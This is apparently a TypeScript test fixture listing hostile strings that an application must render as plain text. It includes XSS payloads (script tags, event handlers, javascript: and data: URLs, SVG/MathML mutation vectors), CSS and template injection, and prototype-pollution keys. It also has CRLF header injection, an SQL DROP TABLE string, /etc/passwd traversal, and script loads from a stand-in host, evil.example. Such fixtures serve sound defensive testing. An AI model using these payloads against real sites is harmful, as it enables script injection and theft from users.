/** Texts that have broken programs. Wherever an application passes a text, each of them must be rendered as text. */

const script = 'alert(1)';

const elements = [
  `<script>${script}</script>`,
  `<ScRiPt>${script}</sCrIpT >`,
  `<script src=//evil.example/x.js></script>`,
  `<scr<script></script>ipt>${script}</script>`,
  `</script><script>${script}</script>`,
  `</title><script>${script}</script>`,
  `<iframe src="javascript:${script}"></iframe>`,
  `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  `<object data="data:text/html,<script>${script}</script>"></object>`,
  `<embed src="javascript:${script}">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${script}">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<form action="javascript:${script}"><button>go</button></form>`,
  `<style>*{background:url(javascript:${script})}</style>`,
  `<template><script>${script}</script></template>`,
];

const handlers = [
  `<img src=x onerror=${script}>`,
  `<img/src/onerror=${script}>`,
  `<IMG SRC=x OnErRoR="${script}">`,
  `<img src="x\`><script>${script}</script>"\``,
  `<body onload=${script}>`,
  `<b onmouseover=${script}>bold</b>`,
  `<a href="/x" onclick="${script}">link</a>`,
  `<video><source onerror="${script}"></video>`,
  `<details open ontoggle=${script}>`,
  `<input autofocus onfocus=${script}>`,
  `" onmouseover="${script}" x="`,
  `' onfocus='${script}' autofocus='`,
  `"><img src=x onerror=${script}>`,
  `\u0060onerror=${script}\u0060`,
];

const urls = [
  `javascript:${script}`,
  `JaVaScRiPt:${script}`,
  ` \t\njavascript:${script}`,
  `java\tscript:${script}`,
  `java\nscript:${script}`,
  `java\r\nscript:${script}`,
  `\u0001javascript:${script}`,
  `\u00a0javascript:${script}`,
  `javascript\u200b:${script}`,
  `javascript://evil.example/%0a${script}`,
  `&#106;avascript:${script}`,
  `java&Tab;script:${script}`,
  `javascript&colon;${script}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${script}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `DATA:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"/>`,
  `data:,image/png`,
  `file:///etc/passwd`,
  `view-source:javascript:${script}`,
  `//evil.example/x`,
  `\\\\evil.example\\x`,
  `<a href="javascript:${script}">link</a>`,
  `<a href=" java&#10;script:${script}">link</a>`,
  `<a href="&#1;javascript:${script}">link</a>`,
  `<a href="data:text/html,<script>${script}</script>">link</a>`,
];

const foreignMarkup = [
  `<svg onload=${script}>`,
  `<svg><script>${script}</script></svg>`,
  `<svg><a xlink:href="javascript:${script}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${script}>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${script}>`,
  `<math href="javascript:${script}">x</math>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${script}>">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${script} src>">`,
  `<!--><img src=x onerror=${script}>-->`,
  `<![CDATA[<script>${script}</script>]]>`,
  `<?xml version="1.0"?><script>${script}</script>`,
];

const styles = [
  `expression(${script})`,
  `url("javascript:${script}")`,
  `red;background:url(//evil.example/x)`,
  `1px;}*{display:none}</style><script>${script}</script>`,
  `calc(1px + var(--x, url(javascript:${script})))`,
  `-moz-binding:url(//evil.example/x.xml#x)`,
];

const templates = [
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '#{7*7}',
  '<%= 7*7 %>',
];

const names = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__defineGetter__',
];

const characters = [
  '',
  ' ',
  '\u0000',
  `<\u0000script>${script}</script>`,
  'line\r\nSet-Cookie: a=b\r\n\r\n<b>',
  '\u202egpj.exe\u202c',
  '\u2066\u2067\u2068\u2069',
  '\ud800',
  'x\udfff<b>',
  '\ufeff\ufffe\uffff',
  '\u2028\u2029',
  '%00%0d%0a%E0%A4%A',
  `'; DROP TABLE images; --`,
  '../../../../etc/passwd',
  '&lt;script&gt;&amp;#x6A;',
  '&#0;&#x110000;&#99999999;',
  `${'<b>'.repeat(2_000)}deep`,
  'long '.repeat(20_000),
];

export const hostileStrings: readonly string[] = [
  ...elements,
  ...handlers,
  ...urls,
  ...foreignMarkup,
  ...styles,
  ...templates,
  ...names,
  ...characters,
];
